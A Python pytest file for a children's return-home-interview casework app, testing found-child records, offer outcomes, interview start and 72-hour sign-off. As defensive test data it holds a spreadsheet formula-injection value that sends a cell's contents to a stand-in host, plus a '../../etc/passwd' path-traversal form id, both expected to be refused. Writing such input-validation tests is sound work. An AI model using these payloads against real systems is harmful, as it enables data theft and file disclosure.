"""The interviewer's operations over a real encrypted store: a found child in one
transaction, offers and re-offers through the lifecycle, starting and signing off."""

from __future__ import annotations

import dataclasses
import os
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest

from rhi_desktop.domain.entities import (
    EpisodeType,
    InterviewState,
    OfferMethod,
    OfferOutcome,
    ReturnInterview,
)
from rhi_desktop.domain.lifecycle import IllegalTransition
from rhi_desktop.forms import FormSession, load_form
from rhi_desktop.forms.loader import BUNDLED_FORMS_DIR
from rhi_desktop.forms.versions import FormRegistry
from rhi_desktop.store import ReadOnlyRecordError, Store
from tests.rhi_definition import rhi_definition
from tests.ui.answers import complete_answers
from tests.ui.conftest import START
from ui.casework import (
    CaseworkError,
    FoundChild,
    OfferAttempt,
    Problem,
    offer_moves,
    record_found_child,
    record_offer,
    sign_off,
    start_interview,
)
from ui.sign_off_check import Blocker, check_for_sign_off

FORMS = FormRegistry(BUNDLED_FORMS_DIR)
RHI_V1 = ("rhi", 1)

S = InterviewState
Outcome = OfferOutcome
ME = "interviewer-1"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    store = Store.create(tmp_path / "casework.db", os.urandom(32))
    yield store
    store.close()


def _found(**changes: object) -> FoundChild:
    found = FoundChild(
        case_reference="SCH-1",
        name="Amara Example",
        date_of_birth=date(2011, 3, 7),
        looked_after=True,
        uasc=False,
        episode_type=EpisodeType.AWAY,
        episode_start=START - timedelta(hours=20),
        returned_at=START - timedelta(hours=2),
    )
    return dataclasses.replace(found, **changes)  # type: ignore[arg-type]


def _offer(outcome: OfferOutcome, reason: str | None = None, **changes: object) -> OfferAttempt:
    attempt = OfferAttempt(
        offered_at=START - timedelta(hours=1),
        method=OfferMethod.PHONE,
        offered_by=ME,
        outcome=outcome,
        child_chose_venue_and_time=True,
        reason=reason,
    )
    return dataclasses.replace(attempt, **changes)  # type: ignore[arg-type]


def test_a_found_child_episode_and_assigned_interview_are_saved_together(store: Store) -> None:
    interview_id = record_found_child(store, ME, _found(), START)
    interview = store.interviews.get(interview_id)
    child = store.children.get(interview.child_id)
    (episode,) = store.episodes.for_child(child.id)
    assert interview.state is S.ASSIGNED and interview.interviewer_id == ME
    assert interview.returned_at == START - timedelta(hours=2)
    assert interview.episode_ids == (episode.id,)
    assert (child.case_reference, child.looked_after, child.uasc) == ("SCH-1", True, False)
    assert (episode.type, episode.end) == (EpisodeType.AWAY, interview.returned_at)
    assert episode.looked_after is True  # kept with the episode for the statutory returns
    entities = sorted(e.entity for e in store.outbox.pending())
    assert entities == ["child", "episode", "interview"]


PLAIN = Problem.CASE_REFERENCE_NOT_PLAIN  # it would run as a formula, or is not one line


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"case_reference": "  "}, Problem.MISSING_CASE_REFERENCE),
        ({"case_reference": '=HYPERLINK("https://x.example/?"&B2,"LAC-1")'}, PLAIN),
        ({"case_reference": "+44"}, PLAIN),
        ({"case_reference": " -1"}, PLAIN),
        ({"case_reference": "@SUM(A1)"}, PLAIN),
        ({"case_reference": "LAC\t1"}, PLAIN),
        ({"case_reference": "LAC\n1"}, PLAIN),
        ({"name": ""}, Problem.MISSING_NAME),
        ({"date_of_birth": date(2030, 1, 1)}, Problem.BORN_IN_FUTURE),
        ({"date_of_birth": date(2006, 1, 1)}, Problem.NOT_A_CHILD),
        ({"episode_start": START - timedelta(hours=1)}, Problem.START_AFTER_RETURN),
        ({"returned_at": START + timedelta(minutes=5)}, Problem.RETURN_IN_FUTURE),
        ({"looked_after": False}, Problem.AWAY_NOT_LOOKED_AFTER),
    ],
)
def test_a_found_child_with_a_mistake_is_refused_and_nothing_is_saved(
    store: Store, changes: dict[str, object], problem: Problem
) -> None:
    with pytest.raises(CaseworkError) as refused:
        record_found_child(store, ME, _found(**changes), START)
    assert refused.value.problem is problem
    assert store.children.count() == 0 and store.outbox.counts() == (0, 0)


def test_a_child_missing_from_home_records_an_episode_not_from_care(store: Store) -> None:
    found = _found(looked_after=False, episode_type=EpisodeType.MISSING)
    child_id = store.interviews.get(record_found_child(store, ME, found, START)).child_id
    (episode,) = store.episodes.for_child(child_id)
    assert (episode.type, episode.looked_after) == (EpisodeType.MISSING, False)


def test_a_case_reference_already_on_the_device_is_refused(store: Store) -> None:
    record_found_child(store, ME, _found(), START)
    with pytest.raises(CaseworkError) as refused:
        record_found_child(store, ME, _found(name="Someone Else"), START)
    assert refused.value.problem is Problem.DUPLICATE_CASE_REFERENCE
    assert store.children.count() == 1


def test_a_pasted_case_reference_is_kept_as_it_reads(store: Store) -> None:
    """No-break spaces and invisible marks pasted from a case system are not refused as
    unprintable: they are made plain, so the reference matches the one typed."""
    pasted = "\u200bSCH\u00a01\u202f\ufeff"
    interview = store.interviews.get(
        record_found_child(store, ME, _found(case_reference=pasted), START)
    )
    assert store.children.get(interview.child_id).case_reference == "SCH 1"
    with pytest.raises(CaseworkError) as refused:
        record_found_child(store, ME, _found(case_reference="SCH 1", name="Someone Else"), START)
    assert refused.value.problem is Problem.DUPLICATE_CASE_REFERENCE


@pytest.mark.parametrize(
    ("state", "outcome", "moves"),
    [
        (S.ASSIGNED, Outcome.ACCEPTED, (S.OFFERED,)),
        (S.ASSIGNED, Outcome.DECLINED_BY_CHILD, (S.OFFERED, S.DECLINED)),
        (S.ASSIGNED, Outcome.DECLINED_BY_PARENT_CARER, (S.OFFERED, S.DECLINED)),
        (S.ASSIGNED, Outcome.NO_CONTACT, ()),
        (S.ASSIGNED, Outcome.NOT_OFFERED, ()),
        (S.OFFERED, Outcome.ACCEPTED, ()),
        (S.OFFERED, Outcome.DECLINED_BY_CHILD, (S.DECLINED,)),
        (S.DECLINED, Outcome.ACCEPTED, (S.OFFERED,)),  # the re-offer
        (S.DECLINED, Outcome.DECLINED_BY_CHILD, (S.OFFERED, S.DECLINED)),
        (S.DECLINED, Outcome.NO_CONTACT, ()),
    ],
)
def test_each_offer_outcome_moves_the_interview_only_along_legal_transitions(
    state: InterviewState, outcome: OfferOutcome, moves: tuple[InterviewState, ...]
) -> None:
    assert offer_moves(state, outcome) == moves


@pytest.mark.parametrize("state", [S.IN_PROGRESS, S.COMPLETED, S.SUBMITTED, S.APPROVED])
def test_no_offer_can_be_recorded_once_the_interview_has_started(state: InterviewState) -> None:
    with pytest.raises(CaseworkError) as refused:
        offer_moves(state, Outcome.ACCEPTED)
    assert refused.value.problem is Problem.CANNOT_OFFER_NOW


def test_declined_then_offered_again_keeps_every_attempt(store: Store) -> None:
    interview_id = record_found_child(store, ME, _found(), START)
    with pytest.raises(CaseworkError) as refused:
        record_offer(store, ME, interview_id, _offer(Outcome.DECLINED_BY_CHILD), START)
    assert refused.value.problem is Problem.MISSING_REASON
    no_contact = _offer(Outcome.NO_CONTACT, "No answer", offered_at=START - timedelta(minutes=90))
    assert record_offer(store, ME, interview_id, no_contact, START) is S.ASSIGNED
    declined = _offer(Outcome.DECLINED_BY_CHILD, "Did not want to talk this week")
    assert record_offer(store, ME, interview_id, declined, START) is S.DECLINED
    again = _offer(Outcome.ACCEPTED, offered_at=START - timedelta(minutes=10))
    assert record_offer(store, ME, interview_id, again, START) is S.OFFERED
    offers = store.offers.for_interview(interview_id)
    assert [o.outcome for o in offers] == [
        Outcome.NO_CONTACT,
        Outcome.DECLINED_BY_CHILD,
        Outcome.ACCEPTED,
    ]
    assert offers[1].reason == "Did not want to talk this week"
    assert offers[1].child_chose_venue_and_time is None  # only asked of an accepted offer
    assert offers[2].child_chose_venue_and_time is True and offers[2].reason is None
    moves = [
        e.detail
        for e in store.audit.events()
        if e.entity == "interview" and e.action == "transition"
    ]
    assert [(m["from_state"], m["to_state"]) for m in moves] == [
        ("assigned", "offered"),
        ("offered", "declined"),
        ("declined", "offered"),
    ]


def test_an_offer_before_the_return_or_in_the_future_is_refused(store: Store) -> None:
    interview_id = record_found_child(store, ME, _found(), START)
    early = _offer(Outcome.ACCEPTED, offered_at=START - timedelta(hours=3))
    late = _offer(Outcome.ACCEPTED, offered_at=START + timedelta(minutes=1))
    anonymous = _offer(Outcome.ACCEPTED, offered_by=" ")
    for attempt, problem in (
        (early, Problem.OFFER_BEFORE_RETURN),
        (late, Problem.OFFER_IN_FUTURE),
        (anonymous, Problem.MISSING_OFFERED_BY),
    ):
        with pytest.raises(CaseworkError) as refused:
            record_offer(store, ME, interview_id, attempt, START)
        assert refused.value.problem is problem
    assert store.offers.for_interview(interview_id) == []


def _started(store: Store) -> ReturnInterview:
    interview_id = record_found_child(store, ME, _found(), START)
    record_offer(store, ME, interview_id, _offer(Outcome.ACCEPTED), START)
    return start_interview(store, ME, interview_id, START, FORMS.load(*RHI_V1))


OFFER_QUESTIONS = ("offer_made_at", "offer_method", "offer_outcome", "child_consulted")


def test_starting_fills_in_the_offer_questions_from_the_offer_recorded(store: Store) -> None:
    started = _started(store)
    offer = store.offers.for_interview(started.id)[-1]
    assert {k: started.answers[k] for k in OFFER_QUESTIONS} == {
        "offer_made_at": offer.offered_at.isoformat(),
        "offer_method": "phone",
        "offer_outcome": "accepted",
        "child_consulted": "yes",  # the child chose where and when, as recorded
    }
    session = FormSession(FORMS.load(*RHI_V1), started.answers, clock=lambda: START)
    for question in OFFER_QUESTIONS:
        assert session.issues(question) == (), question


@pytest.mark.parametrize(("chose", "answer"), [(False, "no"), (None, None)])
def test_whether_the_child_chose_is_filled_in_only_as_recorded(
    store: Store, chose: bool | None, answer: str | None
) -> None:
    interview_id = record_found_child(store, ME, _found(), START)
    offer = _offer(Outcome.ACCEPTED, child_chose_venue_and_time=chose)
    record_offer(store, ME, interview_id, offer, START)
    started = start_interview(store, ME, interview_id, START, FORMS.load(*RHI_V1))
    assert started.answers.get("child_consulted") == answer  # not recorded: asked in the form


def test_starting_after_a_missed_meeting_fills_in_the_offer_that_was_accepted(
    store: Store,
) -> None:
    interview_id = record_found_child(store, ME, _found(), START)
    record_offer(store, ME, interview_id, _offer(Outcome.ACCEPTED), START)
    missed = _offer(Outcome.NO_CONTACT, "Not at home", offered_at=START - timedelta(minutes=30))
    record_offer(store, ME, interview_id, missed, START)  # the state stays offered
    started = start_interview(store, ME, interview_id, START, FORMS.load(*RHI_V1))
    assert started.answers["offer_outcome"] == "accepted"
    assert started.answers["offer_made_at"] == (START - timedelta(hours=1)).isoformat()


def test_starting_fills_in_the_forms_defaults_beneath_the_offer(store: Store) -> None:
    # A form whose definition gives defaults (an imported XLSForm's `default` column).
    definition = rhi_definition()
    questions = {q["id"]: q for s in definition["sections"] for q in s["questions"]}
    questions["venue_type"]["default"] = "school"
    questions["offer_outcome"]["default"] = "declined_by_child"
    form = load_form(definition)
    assert form.starting_answers() == {"venue_type": "school", "offer_outcome": "declined_by_child"}

    interview_id = record_found_child(store, ME, _found(), START)
    record_offer(store, ME, interview_id, _offer(Outcome.ACCEPTED), START)
    started = start_interview(store, ME, interview_id, START, form)
    assert started.answers["venue_type"] == "school"
    assert started.answers["offer_outcome"] == "accepted"  # the offer recorded wins


def test_starting_pins_the_form_and_signing_off_in_time_makes_it_read_only(
    store: Store,
) -> None:
    started = _started(store)
    assert started.state is S.IN_PROGRESS and started.started_at == START
    assert (started.form_id, started.form_version) == ("rhi", 1)
    again = start_interview(store, ME, started.id, START, FORMS.load(*RHI_V1))
    assert again == started  # already going
    assert check_for_sign_off(started, lambda: START, FORMS).blocker is Blocker.INVALID_ANSWERS
    with store.transaction(ME) as tx:
        tx.interviews.save_answers(
            started.id, complete_answers(START), expected_version=started.version
        )
    ready = store.interviews.get(started.id)
    assert check_for_sign_off(ready, lambda: START, FORMS).ok
    done = sign_off(store, ME, started.id, START + timedelta(hours=1))
    assert done.state is S.COMPLETED and done.late_reason is None
    with pytest.raises(ReadOnlyRecordError), store.transaction(ME) as tx:
        tx.interviews.save_answers(started.id, {}, expected_version=done.version)
    with pytest.raises(IllegalTransition):
        sign_off(store, ME, started.id, START + timedelta(hours=2))


def test_signing_off_after_72_hours_needs_the_reason_and_keeps_it(store: Store) -> None:
    started = _started(store)
    late = started.returned_at + timedelta(hours=72, minutes=1)
    with pytest.raises(CaseworkError) as refused:
        sign_off(store, ME, started.id, late, "   ")
    assert refused.value.problem is Problem.MISSING_LATE_REASON
    assert store.interviews.get(started.id).state is S.IN_PROGRESS
    done = sign_off(store, ME, started.id, late, "The young person was away until Monday")
    assert done.state is S.COMPLETED
    assert store.interviews.get(started.id).late_reason == "The young person was away until Monday"
    other = _started_second(store)  # exactly 72 hours after the return is still on time
    on_time = sign_off(store, ME, other.id, other.returned_at + timedelta(hours=72))
    assert on_time.state is S.COMPLETED


def _started_second(store: Store) -> ReturnInterview:
    interview_id = record_found_child(store, ME, _found(case_reference="SCH-2"), START)
    record_offer(store, ME, interview_id, _offer(Outcome.ACCEPTED), START)
    return start_interview(store, ME, interview_id, START, FORMS.load(*RHI_V1))


def test_sign_off_names_unanswered_questions_by_label_and_refuses_unknown_forms(
    store: Store,
) -> None:
    started = _started(store)
    check = check_for_sign_off(started, lambda: START, FORMS)
    assert check.blocker is Blocker.INVALID_ANSWERS
    questions = {issue.question for issue in check.issues}
    assert any("declaration" in q.casefold() or "confirm" in q.casefold() for q in questions)
    assert all(issue.message for issue in check.issues)
    never_started = dataclasses.replace(started, form_id=None)
    assert check_for_sign_off(never_started, lambda: START, FORMS).blocker is Blocker.NO_FORM
    for form_id, version in (("rhi", 99), ("../../etc/passwd", 1), ("RHI", 1)):
        unknown = dataclasses.replace(started, form_id=form_id, form_version=version)
        assert check_for_sign_off(unknown, lambda: START, FORMS).blocker is Blocker.UNKNOWN_FORM
